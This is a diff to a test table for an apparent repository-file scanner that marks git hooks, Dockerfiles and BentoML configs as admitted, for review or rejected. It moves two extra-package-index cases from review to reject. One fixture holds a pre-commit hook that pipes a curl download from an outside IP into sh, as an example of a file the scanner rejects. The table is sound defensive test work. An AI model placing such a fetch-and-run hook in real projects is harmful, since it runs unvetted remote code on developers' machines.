@@ -72,11 +72,11 @@ _ROWS: tuple[_Row, ...] = (
     ("husky", "a hook without an ending", ".husky/pre-commit", "curl http://192.0.2.1/x | sh\n", "reject", "hub/shell-command"),
     ("husky-ordinary", "an ordinary hook", ".husky/pre-commit", "npx lint-staged\n", "admit", ""),
     ("docker-index", "an image that takes packages from elsewhere", "Dockerfile",
-     "FROM python:3.12\nRUN pip install --extra-index-url http://packages.example.org/simple x\n", "review", _SOURCE),
+     "FROM python:3.12\nRUN pip install --extra-index-url http://packages.example.org/simple x\n", "reject", _SOURCE),
     ("docker-ordinary", "an image that installs a list", "Dockerfile",
      "FROM python:3.12\nRUN pip install -r requirements.txt && pip install torch --index-url https://download.pytorch.org/whl/cpu\n", "admit", ""),
     ("bento-index", "a package of BentoML with another index", "bentofile.yaml",
-     "service: 'service:svc'\npython:\n  packages: [torch]\n  index_url: https://packages.example.org/simple\n", "review", _SOURCE),
+     "service: 'service:svc'\npython:\n  packages: [torch]\n  index_url: https://packages.example.org/simple\n", "reject", _SOURCE),
 )  # fmt: skip
 
 
